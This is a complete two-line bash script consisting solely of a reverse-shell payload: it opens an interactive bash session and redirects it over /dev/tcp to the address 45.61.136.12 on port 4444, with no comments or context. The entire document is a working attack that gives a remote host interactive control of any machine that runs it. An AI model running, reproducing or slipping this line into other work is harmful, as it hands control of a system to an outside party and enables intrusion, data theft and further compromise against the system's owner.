#!/bin/bash
bash -i >& /dev/tcp/45.61.136.12/4444 0>&1
